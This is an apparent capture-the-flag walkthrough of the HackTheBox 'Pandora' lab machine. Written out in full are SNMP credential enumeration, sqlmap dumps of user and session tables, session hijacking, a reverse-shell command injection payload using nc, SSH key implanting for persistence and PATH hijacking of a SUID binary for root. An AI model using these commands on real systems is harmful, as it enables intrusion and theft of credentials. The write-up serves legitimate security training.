Pandora HackTheBox WalkThrough

Pandora HackTheBox banner

This is Pandora HackTheBox machine walkthrough. In this writeup, I have demonstrated step-by-step how I rooted Pandora HackTheBox machine. Before starting let us know something about this machine. It is Linux OS box with IP address and difficulty easy assigned by its maker.

First of all, connect your PC with HackTheBox VPN and make sure your connectivity with Pandora machine by pinging its IP If all goes correct then start hacking. As usual, I started by scanning the machine. Scanning gives us an idea how we have to proceed further. Like, it helps in banner grabbing the services running over different ports and sometimes it helps in vulnerability assessment also. I have used $ nmap for this task and the result is given below: –


$ sudo nmap -p- -oN full-tcp-scan.nmap --min-rate=10000
TCP Full port scan on Pandora HTB during its walkthrough
$ sudo nmap -p22,80 -oN script-scan.nmap -sC -sVScript scan on Pandora HTB on TCP Ports
$ sudo nmap --top-ports 10 -sU -oN top-udp.nmap
Port scan on top 10 UDP ports on Pandora  HTB
$ sudo nmap -p161 -sU -sC -sV -T4 -oN udp-script.nmap
Script scan on UDP port 161 on Pandora  HTB


Nmap full TCP scan revealed ports 22 and 80 as open. OpenSSH is running over port 22 and apache2 web server is running over port 80. Also, UDP scan on top 10 ports revealed port 161 as open and SNMP service is running over it. SNMP is bit unique let us explore over it.

Wikipedia, describes Simple Network Management Protocol (SNMP) as an Internet Standard protocol for collecting and organizing information about managed devices on IP networks and for modifying that information to change device behavior. It is widely used in network management for network monitoring. It exposes management data in the form of variables on the managed systems organized in a Management Information Base (MIB) which describes the system status and configuration.

Enumeration on Port 161

On further enumeration on port 161 using nmap's snmp scripts found credential daniel : HotelBabylon23.

$ sudo nmap -sU -p161 --script “snmp* and not snmp-brute”
SNMP Enumeration using nmap script during Pandora HackTheBox WalkThrough -Part 1


SNMP Enumeration using nmap script during Pandora HackTheBox WalkThrough -Part 2


SNMP Enumeration using nmapscript during Pandora HackTheBox WalkThrough -Part 3

You can also use metasploit’s auxiliary module auxiliary/scanner/snmp/snmp_enum for SNMP enumeration. It also performs the same task as nmap’s snmp scripts do.

msf6 > use auxiliary/scanner/snmp/snmp_enum
msf6 auxiliary(scanner/snmp/snmp_enum) > set RHOSTS
msf6 auxiliary(scanner/snmp/snmp_enum) > run
SNMP Enumeration using metasploit auxiliary module on Pandora HTB-Part 1


SNMP Enumeration using metasploit auxiliary module on Pandora HTB-Part 2


Let us use this [daniel: HotelBabylon23] credential to SSH into the pandorabox.

Getting User Shell

$ ssh [email protected]
$ whoami && id
SSH into Daniel account during Pandora HackTheBox WalkThrough

We have successfully logged in into Pandora box as user daniel. It has two users namely daniel & matt. User flag is only accessible to matt and root user therefore, when I tried to access it, it gave me Access Denied message. To capture the flag, we have to logged in as user matt. After some enumeration when I didn’t find anything interesting then simply checked all the listening ports on pandora box.

Checking the Listening Ports

$ ss -lnpt
Listening ports on Pandora HTB

Port number 53, 22, 3306 and 80 are listening.Ports 80 and 22 are listening as normal [because they can be accessed from outside the box]. On the other hand, ports 3306 & 53 are only accessible from localhost. Since we don’t have any credential so we can’t access them. I simply curled the IP and found a URI /pandora_console/. This hinted me to check the URL When I checked it, I found different content which was not accessible through the URL

$ curl
Curl Command result

To access this Pandora Console, we have to port forward port number 80 to our localhost [kali machine]. Since we have SSH credentials so can use it to perform local port forwarding.

Local Port Forwarding

$ ssh -L 80: [email protected]
Local Port Forwarding during Pandora HackTheBox WalkThroughAfter localport forwarding pandora_console is accessible through the URL

Pandora Console Web Interface

Tried to login with Pandora FMS default credential admin : pandora and with some other combination of credentials but none of them worked. There is also the version of this FMS is present viz., v7.0NG.742_FIX_PERL2020.

Pandora FMS version details

Simply googled this version for vulnerabilities and found it is affected with many vulnerabilities namely SQL Injection, Malicious File Execution, Privilege Escalation, XSS and a lot more. Check articles this & this for more info. SQLInjection can be confirmed by the endpoint\.

SQL Injection PoC reproduced during Pandora HackTheBox Walkthrough

Soon I got this vulnerability I dumped the Username and Password of all the users.

$ sqlmap -u --dbs --batch --technique=EU --time-sec=30
$ sqlmap -u -D pandora -T tusuario -C fullname,is_admin,password,email --dump --thread=10
Dumping tusuario table on screen

Then tried to crack the hash using $ hashcat and wordlist rockyou.txt but it could not crack them. Then I dumped the session IDs of all the logged in user from the table tsessions_php and hijacked the session of user matt.

$ sqlmap -u -D pandora --dbms=mysql -T tsessions_php --dump --thread=10 --risk=3
Dumping tssession_php table on screen


Hijacking Session of Matt

Simply replace the PHPSESSID value with g80h3hf7j4u3js38pchlm445kn and then refresh the page. We can see we have successfully hijacked the session of matt and logged in successfully as matt.

Session Hijacking on Pandora HTB

Getting Shell as MattAccording to this post we can perform Remote Command Execution via the Events Feature.

Note: If we are getting user shell here then it will be of the privilege of the user matt because currently, we are logged in as matt.

Let us exploit and get user shell using the PoC given in this post.

On Kali Machine

$ curl -H "Cookie: PHPSESSID=g80h3hf7j4u3js38pchlm445kn" "|sh+-i+2%3E%261|nc+"

On Local Machine

$ nc -nvlp 1234
$ whoami && id
Getting user shell as matt on Pandora HTB

We have successfully got user shell with the privilege of user matt. Let usupgrade it to fully qualified Linux shell so that we can run more advanced Linux command through it.

Note: You will get access denied message as below if Session ID of matt user is expired. So, try to dump fresh session id from tsessions_php table and then use it to hijack matt’s session.Unauthorized Access Error

Upgrading Shell

$ python3 -c 'import pty;pty.spawn("/bin/bash")'
$ ^Z # Ctrl+Z to background the shell
$ stty raw -echo
$ fg # Plus press 2 times enter to foreground the shell
$ export TERM=xterm
Upgrading user shell in Pandora HTB

We have successfully upgraded the shell. Letus capture user flag.

Capture User Flag

$ cat /home/matt/user.txt
Capturing user flag during Pandora HackTheBox walkthrough

Privilege Escalation

To escalate the privilege to root we have to first find a Privilege Escalation Vector using which we can perform privilege escalation. We can find PrivEsc Vector either manually or using some post exploitation enumeration scripts like, and thereare a lot more. Check this link on PayloadsAllTheThings. This time, I have used for this task.

Finding PrivEsc Vector found a custom SUID binary pandora_backup in the directory /usr/bin/. SUID binary is that file which when executed by normal user is executed by the permission of its owner even if it is not owned by the normal user. Forexample, if any binary has given a SUID permission and that file is owned by root user so, when normal user executes that binary all the commandsinside that file will be executed by root privilege.

Linpeas result showing SUID binary on Pandora HackTheBox walkthrough

Let us check who can execute pandora_backup by checking its permission.

$ ls -la /usr/bin/pandora_backup
Checking the permission of pandora_backup SUID binary

pandora_backup has executable permission given to user matt. This binary can be used to escalate privilege by Path Hijacking if the Linux commands used inside this binary is not used with their absolute path. Let us check whether any Linux command is being used without its absolute path inside pandora_backup.

$ cat /usr/bin/pandora_backup
Checking the Content of pandora_backup file during Pandora HackTheBox walkthrough

We found that $ tar command is used without its absolute path. We can use $ tar command to exploit this vulnerability and get root shell. When I tried to get shell by manipulating $ tar command I got root shell without much effort. So here our potential PrivEsc Vector is Privilege Escalation by Path Hijacking or Privilege Escalation by Custom SUID exploitation. Check HTB boxes with similar privilege escalation vector here and here.

Before privilege escalation we need to first get a persistent shell using SSH, only then our exploit will work. I don’t know why but when I was trying to get root using this current shell I got failed every time. This exploit worked only when I got a SSHshell of user matt by implanting my SSH public key in authorized_keys file of user matt. So let us implant our SSH public key into authorized_keys file.

Implanting SSH Keys

On Kali Machine

$ ssh-keygen # generate new ssh key pair
$ cat
Generating SSH Key pair during Pandora HackTheBox walkthrough

Copy keys in your clipboard and then paste it into authorized_keys file of user matt. If authorized_keys find not present then create one as below.On Pandora Machine

$ mkdir .ssh
$ cd .ssh/
$ echo "Your SSH public key here" >authorized_keys
$ cat authorized_keys
Pasting my SSH public key to matt authorized_keys file

Getting Shell as Matt

$ chmod 400 id_rsa
$ ssh -i id_rsa [email protected]
$ whoami && id
Getting ssh shell of User MattWe have successfully got a persistence shell of user matt. Let us get root shell by performing privilege escalation.

Getting Root Shell

To get root shell do the following.

$ cd /tmp
$ echo "/bin/bash" > tar
$ export PATH=$(pwd):$PATH
$ chmod +x tar
$ /usr/bin/pandora_backup# whoami && id
Privilege Escalation in Pandora HackTheBox WalkThrough

We have successfully got root shell. let us capture root flag.

Capture Root Flag

# cat /root/root.txt
Capturing root flag during Pandora HackTheBox WalkThrough

This was how I rooted to Pandora HackTheBox machine. Learnt a lot during this walkthrough. Hope you have also learnt some new things. Thanks for reading this writeup. Share your experience in the comment section. Want to give any suggestion about the writeup feel free to write us at [email protected].Check out my latest articles at

Leave a Reply

This site uses Akismet to reduce spam. Learn how your comment data is processed.

Deepak Kumar Maurya

Hi everyone, I am Deepak Kumar Maurya, creator of I am InfoSec Consultant in day and Bug Bounty Hunter & CTF player at night. Sometimes write walkthrough and other cyber security articles here. You can connect me at